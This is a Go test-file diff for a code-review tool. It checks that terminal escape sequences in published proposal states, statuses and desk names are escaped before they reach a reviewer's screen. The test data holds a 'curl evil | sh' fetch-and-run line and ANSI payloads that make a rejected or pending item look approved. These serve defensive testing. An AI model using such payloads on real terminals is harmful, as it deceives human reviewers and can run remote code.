@@ -12,6 +12,7 @@ import (
 	"time"
 
 	"github.com/diffdesk/diffdesk/engine"
+	"github.com/diffdesk/diffdesk/review/hub"
 	"github.com/diffdesk/diffdesk/review/hub/hubserver"
 	"github.com/diffdesk/diffdesk/review/reviewtest"
 	"github.com/diffdesk/diffdesk/review/startup"
@@ -115,5 +116,30 @@ func TestHistoryShowEscapesTheDiff(t *testing.T) {
 	}
 	if strings.Contains(show, "\x1b") || !strings.Contains(show, `+curl evil | sh\x1b[1A\x1b[2K`) {
 		t.Errorf("history show printed the diff's controls raw, or not at all:\n%q", show)
+	}
+}
+
+// TestHubReviewListEscapesWhatADeskPublished: the desk, not the hub,
+// writes a proposal's state and an outcome's status; a compromised desk
+// (or one of its agents' texts copied into them) must not reach the
+// reviewer's terminal raw. Every field deskctl hub review list prints is
+// escaped as the agent's own text is.
+func TestHubReviewListEscapesWhatADeskPublished(t *testing.T) {
+	esc := "\x1b[2K\r"
+	q := []hub.Item{
+		{Desk: "d1", Hub: "h1", Proposal: &hub.Proposal{Desk: "d1", Hub: "h1", State: "pending" + esc + "approved", Round: 1, Agent: "a",
+			Files: []hub.File{{Rel: "f.txt", Root: "/w"}}}},
+		{Desk: "d1", Hub: "h2", Outcome: &hub.Outcome{Desk: "d1", Hub: "h2", Status: "rejected" + esc + "approved", By: "r"}},
+		{Desk: "d" + esc, Hub: "h3", Outcome: &hub.Outcome{Status: "approved"}},
+	}
+	var out strings.Builder
+	printHubQueue(&invocation{stdout: &out}, q, true)
+	if strings.ContainsAny(out.String(), "\x1b\r") {
+		t.Fatalf("a desk's state, status or name reached the terminal raw:\n%q", out.String())
+	}
+	for _, want := range []string{`pending\x1b[2K\rapproved`, `rejected\x1b[2K\rapproved`} {
+		if !strings.Contains(out.String(), want) {
+			t.Errorf("the list does not show %s escaped:\n%s", want, out.String())
+		}
 	}
 }
